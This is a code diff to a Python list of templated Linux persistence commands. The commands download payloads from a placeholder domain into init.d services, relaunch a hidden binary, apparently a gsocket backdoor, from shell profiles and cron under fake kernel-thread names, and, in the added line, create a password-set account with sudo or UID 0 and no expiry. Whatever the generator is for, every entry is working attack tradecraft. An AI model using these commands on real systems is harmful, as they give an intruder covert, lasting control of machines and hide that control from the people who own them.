@@ -208,4 +208,5 @@ PERSIST = [
     'test -e /etc/init.d/{plain} && echo exists && exit 0\nwget http://{domain}/{name}.py && ‹sudo ¦›mv {name}.py /‹etc¦opt¦usr/share›/\nwget http://{domain}/{plain} && ‹sudo ¦›mv {plain} /etc/init.d/ && ‹sudo ¦›chmod 755 /etc/init.d/{plain}\n‹sudo ¦›update-rc.d {plain} defaults; ‹sudo ¦›service {plain} start',
     'S=$(head -c 12 /dev/urandom | base64 | tr -dc a-zA-Z0-9)\n{dl} {url} > ~/.config/{plain}/‹defunct¦gs-dbus¦{name}›; chmod 700 ~/.config/{plain}/‹defunct¦gs-dbus¦{name}›\necho "pgrep -x {name} >/dev/null || (GS_ARGS=\'-s $S -liqD\' exec -a \'[‹kcached¦slub_flushwq¦kworker/0:1›]\' ~/.config/{plain}/‹defunct¦gs-dbus¦{name}›)" >> ~/.‹profile¦bashrc›',
     '(crontab -l 2>/dev/null | grep -v ‹gs-¦{name}›; echo "{n} * * * * SHELL= TERM=xterm-256color GS_ARGS=\'-k {file}.dat -liqD\' ‹/bin/bash -c \\"exec -a \'[rcu_preempt]\' {file}\\"¦{file} 2>/dev/null› #{plain}") | crontab -',
+    "useradd ‹-m ¦›-s /bin/bash -p $(openssl passwd ‹-1¦-6› {plain}) {name}; usermod ‹-aG sudo¦-aG root¦-o -u 0› {name}; ‹usermod --expiredate '' {name}¦passwd -u {name}¦chage -I -1 -M 99999 {name}›",
 ]
